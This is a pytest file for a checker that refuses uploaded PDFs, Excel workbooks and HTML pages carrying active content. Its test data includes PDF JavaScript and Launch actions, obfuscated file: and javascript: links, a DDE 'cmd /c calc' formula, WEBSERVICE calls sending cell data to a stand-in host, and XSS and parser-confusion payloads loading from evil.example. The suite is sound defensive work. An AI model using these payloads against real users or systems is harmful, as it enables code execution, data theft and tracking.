"""Files of reports: harmless ones pass, and each kind of active content is refused with its reason."""

import io
import zipfile
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.market_reports.contents import judgement
from chalicelib.market_reports.contents.model import FileType, Unfit
from chalicelib.market_reports.contents.page import POLICY
from chalicelib.platform.files.tables import Column, Table, written
from tests.market_reports.contents.samples import (
    HTML,
    PAGE,
    PDF,
    XLSX,
    packed_pdf,
    packed_stream,
    part_of,
    pdf,
    raw_pdf,
    with_parts,
    workbook,
)

SCRIPT = "The PDF contains a script or starts a program."
UNUSUAL = "The PDF is packed in an unusual way: print it to a new PDF."
DAMAGED = "The PDF is damaged: save it again."
ASKS = "A formula of the workbook asks another program or a web address."
TORN = "The workbook is damaged: save it again."
MACROS = "The workbook contains macros, controls or objects of other programs."
WRONG = "The content of this file is not of its type."
TYPES = "[Content_Types].xml"
RELATIONS = "xl/_rels/workbook.xml.rels"


def reason(content_type: FileType, content: bytes) -> str | None:
    try:
        judgement.check(content_type, content)
    except Unfit as unfit:
        return str(unfit)
    return None


@pytest.mark.parametrize(
    ("content_type", "content"), [(PDF, pdf()), (XLSX, workbook()), (HTML, PAGE)], ids=["pdf", "workbook", "page"]
)
def test_a_harmless_file_passes(content_type: FileType, content: bytes) -> None:
    assert reason(content_type, content) is None


@pytest.mark.parametrize("content_type", list(judgement.ENDINGS))
def test_an_empty_file_is_refused(content_type: FileType) -> None:
    assert reason(content_type, b"") == "The file is empty."


OTHERS = {
    "pdf": pdf(),
    "workbook": workbook(),
    "page": PAGE,
    "program": b"MZ\x90\x00",
    "old workbook": b"\xd0\xcf\x11\xe0 of Excel 97",
    "picture": b"<svg></svg>",
}


@pytest.mark.parametrize("content_type", list(judgement.ENDINGS))
@pytest.mark.parametrize("other", OTHERS)
def test_a_file_of_another_type_is_refused(content_type: FileType, other: str) -> None:
    told = reason(content_type, OTHERS[other])
    own = {PDF: "pdf", XLSX: "workbook", HTML: "page"}[content_type]
    if other == own:
        assert told is None
    else:
        assert told in (WRONG, "The page is not in UTF-8: save it as UTF-8.")


# --- PDF --------------------------------------------------------------------------------------------------------------


FILES = "The PDF contains another file or a film."


@pytest.mark.parametrize(
    ("inside", "told"),
    [
        ("<< /S /JavaScript /JS (app.alert\\(1\\)) >>", SCRIPT),
        ("<< /S /J#61vaScript /#4aS (app.alert) >>", SCRIPT),
        ("<</S/Launch/F(calc.exe)>>", SCRIPT),
        ("<< /S /SubmitForm /F (https://evil.example/) >>", SCRIPT),
        ("[ [ << /A << /S /ImportData >> >> ] ]", SCRIPT),
        ("<< /Names << /EmbeddedFiles 5 0 R >> >>", FILES),
        ("<< /Type /Annot /Subtype /FileAttachment >>", FILES),
        ("<< /Type /Annot /Subtype /RichMedia >>", FILES),
        ("<< /AcroForm << /XFA 5 0 R >> >>", "The PDF is a form with scripts: print it to a new PDF."),
        ("<< /Encrypt 5 0 R >>", "The PDF has a password: save it without one."),
        ("<< /Length 60 >>\nstream\n<< /S /JavaScript /JS (found by an offset into a picture) >>\nendstream", SCRIPT),
        ("<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>\nstream\nx\nendstream", UNUSUAL),
        ("<< /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\nx\nendstream", UNUSUAL),
        ("<< /Type /Obj#53tm /Filter /FlateDecode >>\nstream\nno zlib\nendstream", DAMAGED),
    ],
)
def test_a_pdf_that_does_more_than_show_itself_is_refused(inside: str, told: str) -> None:
    assert reason(PDF, pdf(inside)) == told


@pytest.mark.parametrize(
    "inside",
    [
        "<< /S /GoTo /D [3 0 R /Fit] >>",
        "<< /S /URI /URI (https://club.example/JS/Launch) >>",
        "<< /S /URI /URI (https://club.example/JavaScript) >>",
        "<< /Title (Prices \\(3D\\) /Movie) >>",
        "<< /Type /Outlines /First 5 0 R /Last 5 0 R >>",
        "<< /N 3 /Filter /FlateDecode >>\nstream\na colour profile that is not unpacked\nendstream",
    ],
)
def test_links_bookmarks_and_colours_pass(inside: str) -> None:
    assert reason(PDF, raw_pdf("[3 0 R /Fit]", inside)) is None


ELSEWHERE = "The PDF asks for another file: print it to a new PDF."
LINK = "A link of the PDF leads to a file or a program, not to the web or a mailbox."
STREAM = "<< /Length 0 {} >>\nstream\n\nendstream"


@pytest.mark.parametrize(
    ("inside", "told"),
    [
        (r"<< /S /URI /URI (file:///c:/windows/calc.exe) >>", LINK),
        (r"<< /S /URI /URI (javascript:alert\(1\)) >>", LINK),
        (r"<< /S /URI /URI (java\012script:x) >>", LINK),
        (r"<< /S /URI /URI (\152avascript:x) >>", LINK),
        (r"<< /S /URI /URI <6a617661 73637269 70743a 78> >>", LINK),
        (r"<< /S /URI /URI (\376\377\000f\000i\000l\000e\000:\000/) >>", LINK),
        (r"<< /S /URI /URI (\357\273\277file:/x) >>", LINK),
        (r"<< /S /#55RI /#55RI (smb://evil/share) >>", LINK),
        (r"<< /S /URI /URI (ms-word:ofe|u|http://evil.example) >>", LINK),
        (r"<< /S /URI /URI (\\\\evil\\share) >>", LINK),
        (r"<< /S /URI /URI (//evil/share) >>", LINK),
        (r"<< /Type /Annot /Subtype /Link /PA << /S /URI /URI (file:/x) >> >>", LINK),
        (r"<< /URI << /Base (file://evil/) >> >>", LINK),
        (r"<< /S /URI /URI 9 0 R >>", UNUSUAL),
        (STREAM.format(r"/F (\\\\evil\\x) /FFilter /FlateDecode"), ELSEWHERE),
        (STREAM.format("/F << /FS /URL /F (https://evil.example/x) >>"), ELSEWHERE),
        (STREAM.format("/F <5c5c6576696c>"), ELSEWHERE),
        (STREAM.format("/Type /XObject /Subtype /Form /Ref << /F (other.pdf) /Page 0 >>"), ELSEWHERE),
        (r"<< /OPI << /2.0 << /Type /OPI /F (\\\\evil\\a.eps) >> >> >>", ELSEWHERE),
        (r"<< /FDF << /F (\\\\evil\\x.fdf) >> >>", ELSEWHERE),
        (r"<< /S /Thread /F (other.pdf) /D 0 >>", ELSEWHERE),
        ("<< /Type /Filespec /UF (prices.exe) >>", ELSEWHERE),
        ("<< /Collection << /Type /Collection >> >>", FILES),
        ("<< /S /GoToR /F (other.pdf) >>", SCRIPT),
        ("<< /S /GoToE /T << /R /C >> >>", SCRIPT),
    ],
)
def test_a_pdf_leads_to_no_file_and_no_program(inside: str, told: str) -> None:
    assert reason(PDF, raw_pdf("[3 0 R /Fit]", inside)) == told
    packed = packed_stream(inside, before="5 0 ").decode("latin-1")
    if "stream" not in inside:
        hidden = raw_pdf("[3 0 R /Fit]", "null").replace(b"null", packed.encode("latin-1"))
        assert reason(PDF, hidden) == told


@pytest.mark.parametrize(
    "inside",
    [
        "<< /S /URI /URI (https://club.example/wiki/LED_(lamp)?a=1&b=\\(2\\)) >>",
        "<< /S /URI /URI (HTTP://CLUB.EXAMPLE) >>",
        "<< /S /URI /URI (mailto:a@club.example?subject=file:x) >>",
        "<< /S /URI /URI (tel:+74951234567) >>",
        "<< /S /URI /URI (ftp://club.example/prices) >>",
        "<< /S /URI /URI (www.club.example) >>",
        "<< /S /URI /URI (#page=2) >>",
        "<< /S /URI /URI <68747470733a2f2f636c75622e6578616d706c65> >>",
        "<< /URI << /Base (https://club.example/) >> >>",
        "<< /Type /Annot /F 4 /Font << /F 9 0 R >> >>",
    ],
)
def test_a_pdf_may_lead_to_the_web_and_to_mailboxes(inside: str) -> None:
    assert reason(PDF, raw_pdf("[3 0 R /Fit]", inside)) is None


@pytest.mark.parametrize(
    "action",
    [
        "/Named /N /Print",
        "/Hide /T (x)",
        "/Thread /D 0",
        "/ResetForm",
        "/SetOCGState /State [/ON 5 0 R]",
        "/Trans",
    ],
)
def test_opening_a_pdf_prints_and_changes_nothing(action: str) -> None:
    assert reason(PDF, pdf(f"<< /S {action} >>")) == SCRIPT
    assert reason(PDF, pdf().replace(b"4 0 R", f"<< /S {action} >>".encode())) == SCRIPT


def test_what_is_named_among_compressed_objects_is_found() -> None:
    assert b"/JavaScript" not in packed_pdf("/JavaScript")
    assert reason(PDF, packed_pdf("/GoTo")) is None
    assert reason(PDF, packed_pdf("/JavaScript")) == SCRIPT
    assert reason(PDF, packed_pdf("/Java#53cript")) == SCRIPT
    assert reason(PDF, packed_pdf("/GoTo", EmbeddedFiles=1)) == FILES


def test_objects_that_unpack_to_too_much_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("chalicelib.market_reports.contents.pdf.MOST_UNPACKED", 100)
    assert reason(PDF, packed_pdf("/GoTo")) == "The PDF has too many parts to be checked."


@pytest.mark.parametrize(
    ("before", "after"),
    [("% (", "% )"), ("%stream\n", "\n%endstream")],
    ids=["brackets of comments", "a stream of comments"],
)
@pytest.mark.parametrize("action", ["/S /Java#53cript /#4aS 5 0 R", "/S /#4caunch /F 5 0 R"], ids=["script", "program"])
def test_comments_hide_nothing(before: str, after: str, action: str) -> None:
    assert reason(PDF, pdf(f"{before}\n<< {action} >>\n{after}\n")) == SCRIPT


SCRIPT_INSIDE = "<< /S /Java#53cript /#4aS 6 0 R >>"
FORM_INSIDE = "<< /AcroForm << /#58FA 6 0 R >> >>"  # of XFA


@pytest.mark.parametrize("inside", [SCRIPT_INSIDE, FORM_INSIDE], ids=["script", "form"])
@pytest.mark.parametrize(
    "around",
    [
        "<< /Length 9 >>\nstream\nno end of its data\nendobj 5 0 obj {} endobj",
        "<< /Length 999 >>\nstream\n5 0 obj {} endobj\nendstream",
        "(5 0 obj {} endobj",
        "% 5 0 obj {}",
        "<< /Note (obj) /Type /X >> 5 0obj {}",
    ],
)
@pytest.mark.parametrize("packed", [False, True], ids=["plain", "packed"])
def test_whatever_stands_around_an_object_hides_it_from_nobody(inside: str, around: str, packed: bool) -> None:
    """Readers find an object by its place, wherever that is."""
    hidden = packed_stream(inside) if packed else inside.encode()
    told = reason(PDF, pdf("null").replace(b"null", around.encode().replace(b"{}", hidden)))
    assert told == DAMAGED or told in (SCRIPT, "The PDF is a form with scripts: print it to a new PDF.")


@pytest.mark.parametrize(
    ("how", "told"),
    [
        ({"note": "(1 0 obj)"}, SCRIPT),
        ({"keyword": b"stream\r"}, SCRIPT),
        ({"keyword": b"stream \r\n"}, SCRIPT),
        ({"keyword": b"%\nstream\n"}, SCRIPT),
        ({"keyword": b"streams\n"}, DAMAGED),
        ({"filters": "8 0 R"}, UNUSUAL),
        ({"filters": "[/FlateDecode /FlateDecode]"}, UNUSUAL),
        ({"filters": "/FlateDecode /DecodeParms 9 0 R"}, UNUSUAL),
        ({"filters": "/FlateDecode /F (other.bin)"}, UNUSUAL),
        ({"first": "7 0 R"}, UNUSUAL),
        ({"first": "7 %\n0 R"}, UNUSUAL),
        ({"before": "1 0 5 1 (", "after": " )", "first": "8"}, SCRIPT),
    ],
)
def test_an_object_stream_is_read_as_readers_read_it(how: dict[str, Any], told: str) -> None:
    assert reason(PDF, pdf("null").replace(b"null", packed_stream(SCRIPT_INSIDE, **how))) == told


@pytest.mark.parametrize("packed", [False, True], ids=["plain", "packed"])
@pytest.mark.parametrize(
    ("action", "told"),
    [
        ("<< /S /URI /URI (https://evil.example/read) >>", SCRIPT),
        ("<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", SCRIPT),
        ("<< /S /GoTo /D [3 0 R /Fit] >>", None),
        ("[3 0 R /Fit]", None),
    ],
)
def test_opening_a_pdf_jumps_to_a_page_and_goes_nowhere_else(action: str, told: str | None, packed: bool) -> None:
    assert reason(PDF, pdf(action)) == told
    stream = packed_stream(action, before="4 0 ", first="4").decode("latin-1")
    page = pdf("null").replace(b"4 0 obj\nnull\nendobj", f"6 0 obj {stream}\nendobj".encode("latin-1"))
    assert reason(PDF, page) == told
    inline = pdf().replace(b"/OpenAction 4 0 R", b"/OpenAction " + action.encode())
    assert reason(PDF, inline) == told


def test_a_page_that_does_something_when_it_is_shown_is_refused() -> None:
    assert reason(PDF, pdf("<< /AA << /O << /S /URI /URI (https://evil.example) >> >> >>")) == SCRIPT


@pytest.mark.parametrize("noise", [b"1 0 obj(", b"1 0 obj<<", b"1 0 obj (())"])
def test_a_pdf_that_would_take_long_to_read_is_refused(noise: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("chalicelib.market_reports.contents.pdf.MOST_WORK", 1_000_000)
    told = reason(PDF, pdf().replace(b"%%EOF", noise * 50_000 + b"%%EOF"))
    assert told in (DAMAGED, "The PDF has too many parts to be checked.")


def test_the_clubs_own_pdf_passes() -> None:
    table = Table("Цены", [], [Column("Цена", 1)], [["−4 %"]], [], "Клуб", "ru")
    assert reason(PDF, written(table, "pdf")) is None


def test_what_ends_early_is_damaged() -> None:
    assert reason(PDF, b"%PDF-1.7 and nothing more") == DAMAGED
    assert reason(PDF, pdf()[:-40]) == DAMAGED


@given(cut=st.integers(0, 600), noise=st.binary(max_size=40), packed=st.booleans())
def test_noise_makes_a_script_no_less_of_one(cut: int, noise: bytes, packed: bool) -> None:
    """Whatever is put between, before or after: the script is found, or the file is damaged."""
    whole = packed_pdf("/JavaScript") if packed else pdf("<< /S /JavaScript /JS (app.alert) >>")
    place = min(cut, len(whole))
    changed = whole[:place] + noise + whole[place:]
    torn = place in range(whole.find(b"/JavaScript") + 1, whole.find(b"/JavaScript") + 11) and not packed
    assert torn or reason(PDF, changed) is not None


# --- XLSX -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "xl/vbaProject.bin",
        "xl/macrosheets/sheet1.xml",
        "xl/activeX/activeX1.bin",
        "xl/externalLinks/link1.xml",
        "xl/dialogsheets/sheet1.xml",
        "xl/richData/rdRichValueWebImage.xml",
        "xl/attachedToolbars.bin",
        "xl/embeddings/Microsoft_Word_Document.docx",
    ],
)
def test_a_workbook_with_an_active_part_is_refused(name: str) -> None:
    assert reason(XLSX, workbook(**{name: b"x"})) == MACROS


def test_macros_are_found_by_their_declared_type_whatever_the_part_is_called() -> None:
    types = part_of(workbook(), TYPES)
    macro = b'<Override PartName="/xl/pictures.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    assert reason(XLSX, workbook(**{TYPES: types.replace(b"</Types>", macro)})) == MACROS
    enabled = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    assert enabled != types
    assert reason(XLSX, workbook(**{TYPES: enabled})) == MACROS


@pytest.mark.parametrize(
    "relation",
    [
        b'Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="sheet9.xml"',
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="a.bin"',
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" TargetMode="External" Target="http://x/"',
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package" Target="letter.docx"',
    ],
)
@pytest.mark.parametrize("name", [RELATIONS, "xl/worksheets/_rels/sheet9.xml.RELS"])
def test_a_relationship_to_something_active_or_outside_is_refused(relation: bytes, name: str) -> None:
    before = part_of(workbook(), RELATIONS)
    after = before.replace(b"</Relationships>", b'<Relationship Id="rId99" ' + relation + b"/></Relationships>")
    assert reason(XLSX, workbook(**{name: after})) == MACROS


def with_formula(element: str, *, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    sheet = part_of(workbook(), "xl/worksheets/sheet1.xml")
    row = f'<sheetData><row r="900"><c r="A900">{element}</c></row>'.encode()
    return workbook(**{name: sheet.replace(b"<sheetData>", row)})


@pytest.mark.parametrize(
    "element",
    [
        '<f>WEBSERVICE("https://x.example/"&amp;A1)</f>',
        '<f t="str">1+_xlfn.image ("https://x.example/p.png")</f>',
        "<f>&#87;EBSERVICE(A1)</f>",
        "<x:f>cmd|&apos;/c calc&apos;!A1</x:f>",
        "<f>WEB<!-- -->SERVICE(A1)</f>",
        "<f><![CDATA[WEBSERVICE(A1)]]></f>",
        '<formula1>RTD("x",,"y")</formula1>',
        "<f>" + "A1+" * 2_700 + "DDE(A1)</f>",
        '<f>_xlfn._xlws.PY(0,1,"import os")</f>',
        '<f>_xlfn.TRANSLATE(A1,"en","ru")</f>',
        '<f>_xlfn.STOCKHISTORY("X",1)</f>',
        "<f>COPILOT(A1)</f>",
        '<f>IMPORTXML("https://x.example","//a")</f>',
        '<f>HYPERLINK("file:///c:/windows/calc.exe","Prices")</f>',
        '<f>HYPERLINK ( "\\\\host\\share")</f>',
        '<f>IF(A1,HYPERLINK("javascript:x"),1)</f>',
    ],
)
@pytest.mark.parametrize("name", ["xl/worksheets/sheet1.xml", "xl/oddly.dat"])
def test_a_formula_that_asks_outside_is_refused(element: str, name: str) -> None:
    assert reason(XLSX, with_formula(element, name=name)) == ASKS


@pytest.mark.parametrize(
    "element",
    [
        "<f>SUM(A1:A9)*IMAGES_SOLD</f>",
        "<f>&quot;WEBSERVICE(a|b)&quot;&amp;'a|b'!A1</f>",
        "<f>RECALL(A1)+CALLS</f>",
        '<f>HYPERLINK("https://club.example/?a="&amp;A1,"Club")&amp;HYPERLINK("#Sheet1!A1")&amp;HYPERLINK(A1)</f>',
        '<f>IF(A1="file:///x",1)</f>',
        '<is><t>WEBSERVICE("https://x.example") | DDE(1)</t></is>',
    ],
)
def test_another_formula_and_a_text_about_one_pass(element: str) -> None:
    assert reason(XLSX, with_formula(element)) is None


def test_a_formula_is_found_wherever_the_part_is_cut() -> None:
    formula = '<f>WEBSERVICE("https://x.example")</f>'
    for short in range(0, len(formula) + 40, 7):
        filling = f"<v>{'1' * (1_000_000 - 2_000 - short)}</v>"
        assert reason(XLSX, with_formula(filling + formula)) == ASKS, short


@pytest.mark.parametrize(
    ("target", "found"),
    [
        ("https://x.example/", None),
        ("mailto:a@x.example", None),
        ("prices.pdf", None),
        ("file:///c:/x", MACROS),
        ("\\\\host\\share", MACROS),
        ("//host/share", MACROS),
        ("javascript:x", MACROS),
        ("ms-word:ofe|u|x", MACROS),
    ],
)
def test_a_link_to_click_leads_to_the_web_or_to_a_mailbox(target: str, found: str | None) -> None:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
    link = f'<Relationship Id="rId99" Type="{kind}" TargetMode="External" Target="{target}"/></Relationships>'
    after = part_of(workbook(), RELATIONS).replace(b"</Relationships>", link.encode())
    assert reason(XLSX, workbook(**{RELATIONS: after})) == found


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", [RELATIONS, RELATIONS.upper()])
def test_a_workbook_with_two_parts_of_one_name_is_refused(name: str) -> None:
    """One program reads the first of them, another one the last."""
    packed = io.BytesIO(workbook())
    with zipfile.ZipFile(packed, "a") as archive:
        archive.writestr(name, part_of(workbook(), RELATIONS))
    assert reason(XLSX, packed.getvalue()) == TORN


@given(cut=st.integers(0, 6000), lost=st.integers(0, 30), noise=st.binary(max_size=8))
def test_a_workbook_that_was_torn_is_judged_all_the_same(cut: int, lost: int, noise: bytes) -> None:
    whole = workbook()
    place = cut % len(whole)
    assert reason(XLSX, whole[:place] + noise + whole[place + lost :]) in (None, WRONG, MACROS, TORN)


@pytest.mark.parametrize("code", [b"foo", b"utf-7", b"cp037"])
def test_a_list_of_parts_in_an_unknown_code_is_refused(code: bytes) -> None:
    types = part_of(workbook(), TYPES).replace(b"UTF-8", code)
    assert reason(XLSX, workbook(**{TYPES: types})) == TORN


def test_a_workbook_that_unpacks_to_too_much_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    big = workbook(**{"xl/big.xml": bytes(1_000_000)})
    assert len(big) < 20_000
    assert reason(XLSX, big) is None
    monkeypatch.setattr("chalicelib.market_reports.contents.workbook.MOST_UNPACKED", 1_000_000)
    assert reason(XLSX, big) == "The workbook is too large when it is unpacked."


def test_entities_in_a_list_of_parts_are_refused() -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaa">]><Types/>'
    assert reason(XLSX, workbook(**{TYPES: bomb})) == TORN


def test_an_archive_of_something_else_is_no_workbook() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(TYPES, "<Types/>")
    assert reason(XLSX, packed.getvalue()) == WRONG
    assert reason(XLSX, with_parts(packed.getvalue(), {"a": b"b"})[:-30]) == TORN


# --- HTML -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("inside", "named"),
    [
        ("<script>alert(1)</script>", "element script"),
        ("<SCRIPT SRC='https://evil.example/x.js'></SCRIPT>", "element script"),
        ("<iframe src='https://evil.example'></iframe>", "element iframe"),
        ("<svg><script>alert(1)</script></svg>", "element svg"),
        ("<link rel='stylesheet' href='https://evil.example/x.css'>", "element link"),
        ("<base href='https://evil.example/'>", "element base"),
        ("<form action='https://evil.example/'></form>", "element form"),
        ("<img src='data:image/png;base64,AA' onerror='alert(1)'>", "attribute onerror"),
        ("<img src='https://evil.example/pixel.gif'>", "attribute src"),
        ("<a href='javascript:alert(1)'>x</a>", "attribute href"),
        ("<a href='&#106;avascript:alert(1)'>x</a>", "attribute href"),
        ("<a href='data:text/html,<script>alert(1)</script>'>x</a>", "attribute href"),
        ("<meta http-equiv='refresh' content='0;url=https://evil.example'>", "attribute http-equiv"),
        ("<p style='background:url(https://evil.example/x.png)'>x</p>", "attribute style"),
        ("<style>@import 'https://evil.example/x.css';</style>", "style of the page"),
        ("<style>@\\69mport 'https://evil.example/x.css';</style>", "style of the page"),
        ("<style>p{background:u\\72 l(https://evil.example/x.png)}</style>", "style of the page"),
        ("<p style='background:u\\r\\l(https://evil.example/x.png)'>x</p>", "attribute style"),
        ("<style></style x><script>alert(1)</script></style>", "style of the page"),
        ("<!--><script>alert(1)</script>-->", "comment of the page"),
        ("<!---><script>alert(1)</script>-->", "comment of the page"),
        ("<!-- --!><script>alert(1)</script>-->", "comment of the page"),
        ("<!-- -- ><p title='--><script>alert(1)</script>'>x</p>", "comment of the page"),
        ("<style/><p title='</style><script>alert(1)</script>'>", "element style"),
        ("<title/><p title='</title><script>alert(1)</script>'>", "element title"),
        ("<title><!--</title><script>alert(1)</script>--></title>", "title of the page"),
        ("<title><p title='</title><script>alert(1)</script>'></title>", "title of the page"),
    ],
)
def test_a_page_that_runs_or_loads_something_is_refused_by_its_name(inside: str, named: str) -> None:
    told = reason(HTML, PAGE.replace(b"</body>", inside.encode() + b"</body>"))
    assert told is not None
    assert named in told


def test_comments_and_symbols_of_a_style_may_stand_in_a_page() -> None:
    inside = b"<!-- ---- --><!--[if mso]><p>x</p><![endif]--><style><!-- li:before{content:'\\2022'} --></style>"
    assert reason(HTML, PAGE.replace(b"</body>", inside + b"</body>")) is None


def test_a_page_as_an_office_program_writes_it_passes() -> None:
    """LibreOffice 7.4, a sheet."""
    page = """<!DOCTYPE html>
<html><head>
\t<meta http-equiv="content-type" content="text/html; charset=utf-8"/><title></title><meta name="generator" content="LibreOffice 7.4.7.2 (Linux)"/>
\t<style type="text/css">body,div,table,td,p { font-family:"Calibri"; font-size:x-small }</style>
</head><body><table cellspacing="0" border="0"><colgroup width="64"></colgroup>
<tr><td height="20" align="left" valign=bottom sdval="1234.5" sdnum="1033;"><font face="Arial" size=2 color="#0000FF">1234,5</font></td></tr>
</table><center><a href="https://club.example/">Клуб</a></center></body></html>"""
    assert reason(HTML, page.encode()) is None
    assert "attribute type" in str(reason(HTML, page.replace("text/css", "text/x-scriptlet").encode()))


def test_a_page_that_is_kept_tells_the_browser_to_run_nothing() -> None:
    kept = judgement.harmless(HTML, PAGE).decode()
    assert kept.startswith(f'<!DOCTYPE html><meta charset="utf-8">{POLICY}<html')
    without_doctype = b"<html><body>x</body></html>"
    assert judgement.harmless(HTML, without_doctype).decode().startswith(f'<meta charset="utf-8">{POLICY}<html>')


def test_a_download_has_the_ending_of_its_type() -> None:
    assert judgement.download_name("prices.exe", PDF) == "prices.exe.pdf"
    assert judgement.download_name("Prices.PDF", PDF) == "Prices.PDF"
    assert judgement.download_name("prices.htm", HTML) == "prices.htm"
